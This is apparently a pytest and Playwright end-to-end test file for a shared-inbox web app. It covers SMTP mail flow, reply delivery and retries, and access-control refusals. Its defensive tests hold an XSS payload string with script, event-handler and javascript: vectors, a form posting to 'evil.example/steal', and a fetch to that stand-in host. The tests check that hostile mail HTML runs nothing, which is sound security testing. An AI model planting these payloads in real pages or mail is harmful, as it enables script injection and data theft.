"""The agent's journey in Chromium, end to end over real SMTP (issue #14, "Tests").

A customer's mail goes through the real ingress (aiosmtpd, spooled, ingested); the agent finds it
under *Unassigned*, answers in the composer; the reply leaves through a real capture smarthost
(tests/smarthost.py) as EMAIL_HOST/EMAIL_PORT with the From, signature and threading headers; the
customer's answer comes back over SMTP into the same conversation. Then the smarthost refusing
(failed with the reason, Retry) and down (retried, then sent); hostile mail HTML running nothing
(B8, with the shared XSS corpus); B6 and B7 in the page and by crafted POSTs.

Tasks run eagerly, in the thread of whoever enqueues them (the ingress, the live server), as
without REDIS_URL; tests/inboxes/test_replies.py delivers the same way.
"""

import json
import smtplib
from email.utils import make_msgid

import pytest
from aiosmtpd.controller import Controller
from celery import signals
from django.urls import reverse
from django_scopes import scopes_disabled
from playwright.sync_api import expect

from channels_conn.models import FallbackAddress
from inboxes.models import Conversation, Message
from inboxes.reply_tokens import verify_reply_token
from inboxes.selectors import THREAD_PAGE_SIZE
from inboxhub.celery import app as celery_app
from inboxhub.lib.html import sanitize_html
from inboxhub.models import Membership
from tests.channels_conn.conftest import free_port, start_smtp  # noqa: F401 - the fixture
from tests.corpora import CORPORA
from tests.dnsserver import dns_server  # noqa: F401 - the fixture
from tests.e2e.conftest import assert_accessible, assert_fits_mobile, login, screenshot
from tests.factories import PASSWORD, make_account
from tests.inboxes.helpers import parsed, receive
from tests.inboxes.inbox_settings_helpers import make_inbox, make_member
from tests.smarthost import Smarthost, smarthost, use_smarthost

CUSTOMER = "carol@customer.example"
REFUSED = "550 5.7.1 <carol@customer.example>: Relay access denied"
XSS_CORPUS = CORPORA / "xss" / "vectors.json"
HOSTILE_HTML = (
    "<p>Hello</p><img src=x onerror=alert(1)><svg onload=alert(2)></svg><script>alert(3)</script>"
    '<a href="javascript:alert(4)">click</a><iframe src="javascript:alert(5)"></iframe>'
    '<div hx-get="/a/alpha/settings/" hx-trigger="load">htmx</div>'
    '<form action="https://evil.example/steal"><input name=q><button>Go</button></form>'
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">'
    '<img src="https://evil.example/pixel.png"><div style="background:url(https://evil.example/bg.png)">b</div>'
    "<details open ontoggle=alert(6)><summary>s</summary></details>"
)


@pytest.fixture
def ingress(start_smtp, dns_server, settings, monkeypatch):  # noqa: F811 - the imported fixtures
    """The real ingress with sender checks on a quiet DNS; tasks run eagerly where they are enqueued."""
    settings.DNS_NAMESERVERS = [dns_server.address]
    settings.TRUSTED_NETWORKS = []
    monkeypatch.setattr(celery_app.conf, "task_always_eager", True)
    return start_smtp()


@pytest.fixture(autouse=True)
def patient(page):
    """Mail goes through SMTP twice per step here, on a machine the whole suite shares."""
    page.set_default_timeout(15_000)


@pytest.fixture
def outbox(settings):
    with smarthost(settings) as handler:
        yield handler


@pytest.fixture
def alpha(transactional_db):
    """Account Alpha, its fallback address signed by the sending agent, and Ada, a paid agent."""
    admin = make_account("alpha", company_name="Alpha", full_name="Alice Admin", email="alice@alpha.example")
    with scopes_disabled():
        FallbackAddress.objects.filter(account=admin.account).update(
            signature_html="<p>Best regards, <b>{{first_name}}</b></p><p>{{full_name}} · Alpha support</p>"
        )
    ada = make_member(admin.account, "Ada Agent")
    return admin, ada


def fallback_of(account) -> str:
    with scopes_disabled():
        return FallbackAddress.objects.get(account=account, channel__inbox__is_default=True).address


def smtp_send(server, *, to: str, subject: str, body: str, message_id: str, headers: str = "") -> None:
    """A customer's mail client: one message over SMTP to the ingress."""
    raw = (
        f"From: Carol Customer <{CUSTOMER}>\r\nTo: {to}\r\nSubject: {subject}\r\n"
        f"Date: Mon, 07 Dec 2026 09:30:00 +0000\r\nMessage-ID: {message_id}\r\n{headers}"
        f"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n"
    )
    with smtplib.SMTP(
        server.hostname, server.port, local_hostname="mx.customer.example", timeout=15
    ) as client:
        refused = client.sendmail(CUSTOMER, [to], raw.encode())
    assert refused == {}


def open_unassigned_conversation(page, subject: str) -> None:
    page.goto(reverse("inboxes:index", args=["alpha"]))
    page.get_by_role("link", name="Unassigned").click()
    expect(page.get_by_role("link", name="Unassigned")).to_have_attribute("aria-current", "page")
    with page.expect_navigation():
        page.get_by_role("link", name=subject).click()


def send_reply(page, text: str):
    """Write and send a reply; the thread shows it in place (htmx), with its delivery state."""
    page.get_by_label("Reply", exact=True).fill(text)
    page.get_by_role("button", name="Send").click()
    reply = page.locator("article.message", has_text=text)
    expect(reply).to_be_visible(timeout=15_000)
    expect(page.get_by_label("Reply", exact=True)).to_have_value("")
    return reply


def the_conversation(account) -> Conversation:
    with scopes_disabled():
        return Conversation.objects.get(account=account)


# --- the journey ---


def test_a_customers_mail_is_answered_and_the_answer_comes_back_to_the_same_conversation(
    page, ingress, outbox, alpha
):
    admin, ada = alpha
    address = fallback_of(admin.account)
    smtp_send(
        ingress,
        to=address,
        subject="Where is my order?",
        body="It has not arrived.",
        message_id="<o1@customer.example>",
    )

    login(page, "ada.agent@alpha.example", PASSWORD)
    open_unassigned_conversation(page, "Where is my order?")
    expect(page.get_by_role("heading", level=1)).to_have_text("Where is my order?")
    composer = page.locator("#composer")
    expect(composer).to_contain_text("Ada Agent at Alpha")
    expect(composer).to_contain_text("Best regards, Ada")
    # No screenshot before an htmx swap: Playwright leaves `style=""` on inputs when it hides the caret,
    # and htmx settling that attribute afterwards is a CSP violation of the test's making.
    reply = send_reply(page, "Your parcel left our warehouse this morning.")

    assert outbox.received.wait(10), "the reply never reached the smarthost"
    [(rcpt_tos, mail)] = outbox.messages
    assert rcpt_tos == [CUSTOMER]
    assert mail["From"] == "Ada Agent at Alpha <ada.agent@alpha.mail.localhost>"
    assert mail["To"] == f"Carol Customer <{CUSTOMER}>"
    assert mail["Subject"] == "Re: Where is my order?"
    assert mail["In-Reply-To"] == "<o1@customer.example>"
    assert mail["References"] == "<o1@customer.example>"
    local, _, domain = mail["Reply-To"].rpartition("@")
    base, _, token = local.partition("+")
    assert f"{base}@{domain}" == address
    assert verify_reply_token(admin.account_id, token) == the_conversation(admin.account).pk
    text = mail.get_body(("plain",)).get_content()
    assert "Your parcel left our warehouse this morning." in text
    assert "Best regards, Ada" in text and "Ada Agent · Alpha support" in text
    assert "<b>Ada</b>" in mail.get_body(("html",)).get_content()
    expect(reply.locator(".delivery-state .badge")).to_have_text("Sent", timeout=15_000)

    # The customer answers the reply; their client cites its Message-ID.
    smtp_send(
        ingress,
        to=address,
        subject="Re: Where is my order?",
        body="Thank you, it just arrived!",
        message_id="<o2@customer.example>",
        headers=(
            f"In-Reply-To: {mail['Message-ID']}\r\nReferences: <o1@customer.example> {mail['Message-ID']}\r\n"
        ),
    )
    page.reload()

    expect(page.locator("article.message")).to_have_count(3)
    expect(page.locator("article.message").last).to_contain_text("Thank you, it just arrived!")
    with scopes_disabled():
        answer = Message.objects.get(message_id="o2@customer.example")
    assert answer.conversation_id == the_conversation(admin.account).pk
    assert_accessible(page)
    screenshot(page, "journey-thread-answered")
    assert_fits_mobile(page)


def test_a_smarthost_refusing_the_reply_shows_it_failed_with_the_reason_and_retry_sends_it(
    page, ingress, outbox, alpha
):
    admin, _ = alpha
    smtp_send(
        ingress, to=fallback_of(admin.account), subject="Refund", body="Please.", message_id=make_msgid()
    )
    outbox.rcpt_answer = REFUSED
    login(page, "ada.agent@alpha.example", PASSWORD)
    open_unassigned_conversation(page, "Refund")

    state = send_reply(page, "Refunded.").locator(".delivery-state")
    expect(state.locator(".badge")).to_have_text("Failed", timeout=15_000)
    expect(state).to_contain_text(REFUSED)
    assert outbox.messages == []
    screenshot(page, "journey-reply-failed")
    assert_accessible(page)

    outbox.rcpt_answer = "250 OK"
    state.get_by_role("button", name="Retry").click()

    expect(page.locator(".delivery-state .badge")).to_have_text("Sent", timeout=15_000)
    assert len(outbox.messages) == 1


def test_a_smarthost_that_is_down_gets_the_reply_on_a_later_attempt(page, ingress, alpha, settings):
    """Connection refused twice (nothing listens), then the smarthost comes up: one copy arrives."""
    admin, _ = alpha
    smtp_send(
        ingress, to=fallback_of(admin.account), subject="Invoice copy", body="Again?", message_id=make_msgid()
    )
    port = free_port()
    use_smarthost(settings, port)
    handler = Smarthost()
    controllers = []

    def come_up_after_two_retries(sender=None, **kwargs):
        if len(controllers) == 0 and sender.request.retries >= 1:
            controller = Controller(handler, hostname="127.0.0.1", port=port)
            controller.start()
            controllers.append(controller)

    signals.task_retry.connect(come_up_after_two_retries, weak=False)
    try:
        login(page, "ada.agent@alpha.example", PASSWORD)
        open_unassigned_conversation(page, "Invoice copy")
        send_reply(page, "Attached again.")
    finally:
        signals.task_retry.disconnect(come_up_after_two_retries)
        for controller in controllers:
            controller.stop()

    expect(page.locator(".delivery-state .badge")).to_have_text("Sent", timeout=15_000)
    assert len(handler.messages) == 1
    with scopes_disabled():
        reply = Message.objects.get(direction="outgoing", account=admin.account)
    assert (reply.delivery_state, reply.delivery_attempts) == ("sent", 3)


# --- B8: hostile mail HTML runs nothing ---


class Watch:
    """Dialogs opened and requests made by pages, other than the app's own documents and assets."""

    def __init__(self, context, live_server_url: str) -> None:
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        self.origin = live_server_url

        def route(route):
            url = route.request.url
            if not url.startswith(self.origin):
                self.requests.append(url)
                route.abort()
            else:
                route.continue_()

        context.route("**/*", route)

    def page(self, page):
        def dialog(d):
            self.dialogs.append(d.message)
            d.dismiss()

        page.on("dialog", dialog)
        return page


def test_the_watch_sees_a_dialog_and_a_request_that_leaves(
    page, context, live_server, problems, transactional_db
):
    """The control for the B8 tests below: what they count as "nothing ran" can be seen when it happens."""
    watch = Watch(context, live_server.url)
    watch.page(page)
    # A page without the app's CSP, which would stop the fetch before the network: this tests the watch.
    page.goto("about:blank")
    page.evaluate("alert('ran')")
    page.evaluate("fetch('https://evil.example/steal').catch(() => null)")
    page.wait_for_timeout(200)

    assert watch.dialogs == ["ran"]
    assert watch.requests == ["https://evil.example/steal"]
    # The aborted request is logged as a failed load: expected here, and only here.
    assert problems.console == ["Failed to load resource: net::ERR_FAILED"]
    problems.console.clear()
    problems.console_urls.clear()


def test_a_hostile_html_mail_runs_nothing_in_the_thread_view(page, context, live_server, ingress, alpha):
    admin, _ = alpha
    address = fallback_of(admin.account)
    raw = (
        f"From: Mallory <mallory@hostile.example>\r\nTo: {address}\r\nSubject: Hostile\r\n"
        "Message-ID: <hostile1@hostile.example>\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: text/html; charset=utf-8\r\n\r\n{HOSTILE_HTML}\r\n"
    )
    with smtplib.SMTP(ingress.hostname, ingress.port, timeout=15) as client:
        client.sendmail("mallory@hostile.example", [address], raw.encode())
    watch = Watch(context, live_server.url)
    watch.page(page)
    app_requests = []
    page.on("request", lambda r: app_requests.append(r.url) if r.url.startswith(live_server.url) else None)
    login(page, "ada.agent@alpha.example", PASSWORD)
    app_requests.clear()

    page.goto(reverse("inboxes:thread", args=["alpha", the_conversation(admin.account).pk]))
    frame = page.locator("iframe.message-html")
    frame.scroll_into_view_if_needed()
    expect(page.frame_locator("iframe.message-html").get_by_text("Hello")).to_be_visible()
    page.wait_for_load_state("networkidle")

    sandbox = frame.get_attribute("sandbox").split()
    assert (
        "allow-scripts" not in sandbox
        and "allow-forms" not in sandbox
        and "allow-top-navigation" not in sandbox
    )
    assert page.locator(".message-body[hx-disable]").count() == 1
    assert watch.dialogs == []
    assert watch.requests == []  # nothing left for evil.example, not even the remote images
    # Only the page, its assets and the mail's own HTML document: no hx-get to settings fired.
    # The page's own live-update poll (H5, static/js/live.js) is the page's, not the mail's.
    fired = [
        u for u in app_requests if "/static/" not in u and "favicon" not in u and "/inbox/live/" not in u
    ]
    assert all("/inbox/c/" in u or "/html/" in u for u in fired), fired
    screenshot(page, "journey-hostile-mail")


def corpus() -> list[dict]:
    return json.loads(XSS_CORPUS.read_text()) if XSS_CORPUS.exists() else []


def corpus_threads(inbox) -> list[int]:
    """The corpus as mail HTML, one vector a message, in threads of one page each (thread paging).

    The first message of each thread goes through `receive_message`; the rest are stored as it
    stores them (the same sanitizer), in bulk, to keep the test fast.
    """
    conversation_ids = []
    entries = [e for e in corpus() if sanitize_html(e["payload"]).html]
    for start in range(0, len(entries), THREAD_PAGE_SIZE):
        chunk = entries[start : start + THREAD_PAGE_SIZE]
        first = receive(inbox, parsed(subject=f"Corpus {start}", html=chunk[0]["payload"], text="corpus"))
        with scopes_disabled():
            Message.objects.bulk_create(
                Message(
                    account_id=first.account_id,
                    conversation_id=first.conversation_id,
                    inbox_id=first.inbox_id,
                    message_id=f"{entry['id']}@corpus.example",
                    from_name=entry["id"],
                    from_email="carol@customer.example",
                    subject=f"Corpus {start}",
                    text="corpus",
                    html=sanitize_html(entry["payload"]).html,
                    threaded_by=Message.ThreadedBy.IN_REPLY_TO,
                    attributed_by=Message.AttributedBy.FROM,
                )
                for entry in chunk[1:]
            )
        conversation_ids.append(first.conversation_id)
    return conversation_ids


def loaded_mail_frames(page, wanted: int) -> list:
    """The page's mail frames once all `wanted` have their document (or fail after 30 s)."""
    for _ in range(600):
        frames = [f for f in page.frames if "/html/" in f.url]
        if len(frames) >= wanted:
            return frames
        page.wait_for_timeout(50)
    pytest.fail(f"only {len(frames)} of {wanted} mail frames loaded")


@pytest.mark.skipif(not XSS_CORPUS.exists(), reason=f"XSS corpus not found at {XSS_CORPUS}")
def test_no_vector_of_the_xss_corpus_runs_or_calls_out_in_the_thread_view(page, context, live_server, alpha):
    """B8: each vector of the shared corpus as a mail's HTML, every frame of every thread page loaded."""
    admin, _ = alpha
    with scopes_disabled():
        inbox = admin.account.inboxes.get(is_default=True)
    conversation_ids = corpus_threads(inbox)
    watch = Watch(context, live_server.url)
    watch.page(page)
    login(page, "ada.agent@alpha.example", PASSWORD)
    documents = []
    page.on("request", lambda r: documents.append(r.url) if r.url.startswith(live_server.url) else None)
    frames = 0

    for conversation_id in conversation_ids:
        # 30 mails a page on a machine the whole suite shares: generous timeouts, no timing asserted.
        page.goto(
            reverse("inboxes:thread", args=["alpha", conversation_id]),
            wait_until="domcontentloaded",
            timeout=30_000,
        )
        # The frames load lazily as the agent scrolls; load them all at once.
        page.evaluate(
            "document.querySelectorAll('iframe.message-html').forEach((f) => { f.loading = 'eager'; })"
        )
        wanted = page.locator("iframe.message-html").count()
        mail_frames = loaded_mail_frames(page, wanted)
        for frame in mail_frames:
            frame.wait_for_load_state("load", timeout=30_000)
        sandboxes = page.locator("iframe.message-html").evaluate_all("(fs) => fs.map((f) => f.sandbox.value)")
        assert not any("allow-scripts" in s for s in sandboxes)
        frames += len(mail_frames)

    assert frames > 250  # the other vectors sanitize to nothing: no HTML document at all
    assert watch.dialogs == []
    assert watch.requests == []
    fired = [u for u in documents if "/static/" not in u and "favicon" not in u and "/inbox/live/" not in u]
    assert all("/inbox/c/" in u or "/html/" in u for u in fired), fired


# --- B6 and B7 in the page, and by crafted POSTs ---


def test_an_admin_off_the_access_list_sees_the_controls_disabled_with_the_reason_and_is_refused(
    page, ingress, alpha
):
    admin, ada = alpha
    billing = make_inbox(admin, "Billing", members=[ada])
    with scopes_disabled():
        address = FallbackAddress.objects.get(channel__inbox=billing).address
    smtp_send(ingress, to=address, subject="Card declined", body="Help.", message_id=make_msgid())
    login(page, "alice@alpha.example", PASSWORD)
    with scopes_disabled():
        conversation = Conversation.objects.get(inbox=billing)

    page.goto(reverse("inboxes:thread", args=["alpha", conversation.pk]))

    expect(page.locator("#composer-refusal")).to_contain_text("access list of the inbox “Billing”")
    expect(page.get_by_label("Reply", exact=True)).to_be_disabled()
    expect(page.get_by_role("button", name="Send")).to_be_disabled()
    expect(page.locator("#assign-refusal")).to_contain_text("access list")
    expect(page.get_by_role("button", name="Assign to me")).to_be_disabled()
    expect(page.get_by_role("button", name="Close conversation")).to_be_disabled()
    assert_accessible(page)
    screenshot(page, "journey-b6-read-only")
    # The same POSTs the disabled controls would send, crafted with the page's CSRF token.
    for url, data in (
        (reverse("inboxes:reply", args=["alpha", conversation.pk]), {"body": "Forced."}),
        (reverse("conversations:assign", args=["alpha", conversation.pk]), {"to": "me"}),
        (reverse("conversations:close", args=["alpha", conversation.pk]), {}),
        (reverse("tickets:create", args=["alpha", conversation.pk]), {}),
    ):
        answer = page.request.post(url, form=data, headers={"X-CSRFToken": csrf_token(page)})
        assert answer.status == 403, (url, answer.status)
    with scopes_disabled():
        conversation.refresh_from_db()
        assert (conversation.status, conversation.assignee_id) == ("open", None)
        assert not Message.objects.filter(conversation=conversation, direction="outgoing").exists()


def csrf_token(page) -> str:
    return next(c["value"] for c in page.context.cookies() if c["name"] == "csrftoken")


def test_a_free_seat_answers_an_unassigned_conversation_but_not_one_someone_else_has(
    page, ingress, outbox, alpha
):
    admin, ada = alpha
    make_member(admin.account, "Fay Free", seat=Membership.Seat.FREE)
    address = fallback_of(admin.account)
    smtp_send(ingress, to=address, subject="Open question", body="Hi?", message_id=make_msgid())
    smtp_send(ingress, to=address, subject="Taken question", body="Hi!", message_id=make_msgid())
    with scopes_disabled():
        taken = Conversation.objects.get(subject="Taken question")
        Conversation.objects.filter(pk=taken.pk).update(assignee=ada)
    login(page, "fay.free@alpha.example", PASSWORD)

    open_unassigned_conversation(page, "Open question")
    send_reply(page, "Happy to help.")
    expect(page.locator(".delivery-state .badge")).to_have_text("Sent", timeout=15_000)
    assert outbox.received.wait(10)
    assert outbox.messages[0][1]["From"] == "Fay Free at Alpha <fay.free@alpha.free-mail.localhost>"

    page.goto(reverse("inboxes:thread", args=["alpha", taken.pk]))
    expect(page.locator("#composer-refusal")).to_contain_text(
        "With a free seat you can reply only to conversations that are unassigned or assigned to you"
    )
    expect(page.get_by_role("button", name="Send")).to_be_disabled()
    expect(page.get_by_role("button", name="Assign to me")).to_be_disabled()
    expect(page.locator("#assign-refusal")).to_be_visible()
    assert_accessible(page)
    screenshot(page, "journey-b7-free-seat")
    for url, data in (
        (reverse("inboxes:reply", args=["alpha", taken.pk]), {"body": "Forced."}),
        (reverse("conversations:assign", args=["alpha", taken.pk]), {"to": "me"}),
    ):
        answer = page.request.post(url, form=data, headers={"X-CSRFToken": csrf_token(page)})
        assert answer.status == 403, (url, answer.status)
    assert len(outbox.messages) == 1
    with scopes_disabled():
        assert not Message.objects.filter(conversation=taken, direction="outgoing").exists()
        assert Conversation.objects.get(pk=taken.pk).assignee_id == ada.pk
